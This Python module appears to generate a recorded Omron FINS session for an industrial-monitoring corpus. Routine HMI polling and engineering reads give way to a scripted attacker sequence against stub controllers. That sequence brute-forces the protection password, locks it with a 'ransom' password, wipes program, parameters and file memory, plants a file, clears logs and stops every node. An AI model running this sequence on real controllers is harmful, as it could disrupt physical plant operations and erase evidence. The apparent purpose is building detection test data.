"""An HMI polls two controllers, an engineer reads one and tunes it; then a rogue host overwrites its memory,
program and settings, forces bits, erases traces, sets its clock and stops it."""

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "fins/recorded-session",
    stacks=("fins 1.0.5",),
    servers=("10.59.1.10", "10.59.1.11"),
    clients=("10.59.1.20", "10.59.1.40", "10.59.1.66"),
    listens=("udp 9600",),
)


def server() -> None:
    """The mixer and the filler, answered by a stub."""
    from _fins import FILLER, MIXER, controllers

    controllers([MIXER, FILLER])


def client() -> None:
    """Read, write, command; parameters as in the FINS commands reference manual (W342)."""
    from _fins import ATTACKER, CODES, ENGINEERING, FILLER, HMI, MIXER, Connection

    word = b"\x82\x00\x64\x00"  # D100
    screens = []
    for controller in (MIXER, FILLER):
        hmi = Connection(HMI, controller) if not screens else screens[0]
        hmi.ip_address, hmi.dest_node_add = controller, int(controller.rpartition(".")[2])
        screens.append(hmi)
        for _ in range(15):
            hmi.memory_area_read(b"\x82", b"\x00\x64\x00", 10)
            hmi.cpu_unit_status_read()

    engineer = Connection(ENGINEERING, MIXER)
    engineer.cpu_unit_data_read(b"\x00")
    engineer.ask(CODES.CLOCK_READ)
    engineer.memory_area_read(b"\x82", b"\x00\x64\x00", 4)
    engineer.memory_area_write(b"\x82", b"\x00\x64\x00", b"\x00\x2a", 1)
    engineer.ask(CODES.PARAMETER_AREA_READ, b"\x80\x10\x00\x00\x00\x0a")
    engineer.program_area_read(0, 100)

    rogue, everything = Connection(ATTACKER, MIXER), b"\xff\xff\x00\x00\x00\x00"
    rogue.cpu_unit_data_read(b"\x00")
    rogue.ask(CODES.MULTIPLE_MEMORY_AREA_READ, word + b"\x82\x00\x65\x00")
    for attempt in range(30):
        rogue.memory_area_write(b"\x82", b"\x00\x64\x00", bytes([attempt, 0]), 1)
    rogue.ask(CODES.MEMORY_AREA_FILL, word + b"\x00\x10\xff\xff")
    rogue.ask(CODES.MEMORY_AREA_TRANSFER, word + b"\x82\x01\x00\x00" + b"\x00\x08")
    rogue.ask(CODES.FORCED_SET_RESET, b"\x00\x01" + b"\x00\x01" + b"\x30\x00\x00\x00")
    rogue.ask(CODES.FORCED_SET_RESET_CANCEL)
    rogue.ask(CODES.ACCESS_RIGHT_ACQUIRE, b"\x00\x00")
    rogue.ask(CODES.ACCESS_RIGHT_FORCED_ACQUIRE, b"\x00\x00")
    for guess in range(12):
        rogue.ask(b"\x03\x05", everything + b"\x00" + f"{guess:08}".encode())  # protect clear
    rogue.ask(b"\x03\x04", everything + b"\x00" + b"ransom00")  # protect
    rogue.change_to_program_mode()
    rogue.ask(CODES.PARAMETER_AREA_WRITE, b"\x80\x10\x00\x00\x80\x02" + bytes(4))
    rogue.ask(CODES.PARAMETER_AREA_FILL, b"\x80\x10\x00\x00\x00\x10\x00\x00")
    rogue.ask(CODES.PROGRAM_AREA_WRITE, b"\xff\xff\x00\x00\x00\x00\x80\x04" + bytes(4))
    rogue.ask(CODES.PROGRAM_AREA_CLEAR, b"\xff\xff\x00")
    rogue.ask(CODES.SINGLE_FILE_WRITE, b"\x80\x00\x00\x00" + b"IMPLANT DAT" + bytes(9) + b"evil")
    rogue.ask(CODES.FILE_DELETE, b"\x80\x00\x00\x01" + b"SETTINGSDAT" + bytes(1))
    rogue.ask(CODES.FILE_MEMORY_FORMAT, b"\x80\x00")
    rogue.ask(CODES.CLOCK_WRITE, b"\x99\x12\x31\x23\x59")
    rogue.ask(CODES.ERROR_CLEAR, b"\xff\xff")
    rogue.ask(CODES.ERROR_LOG_READ, b"\x00\x00\x00\x05")
    rogue.ask(CODES.ERROR_LOG_CLEAR)
    rogue.ask(CODES.FINS_WRITE_ACCESS_LOG_CLEAR)
    rogue.ask(b"\x04\x03")  # reset
    rogue.ask(CODES.RUN, b"\xff\xff\x04")
    rogue.dest_node_add = 0xFF  # every node of the network
    rogue.change_to_program_mode()
    rogue.dest_net_add, rogue.dest_node_add = 2, 5  # a node behind the controller
    rogue.cpu_unit_data_read(b"\x00")
    rogue.ask(CODES.ACCESS_RIGHT_RELEASE, b"\x00\x00")
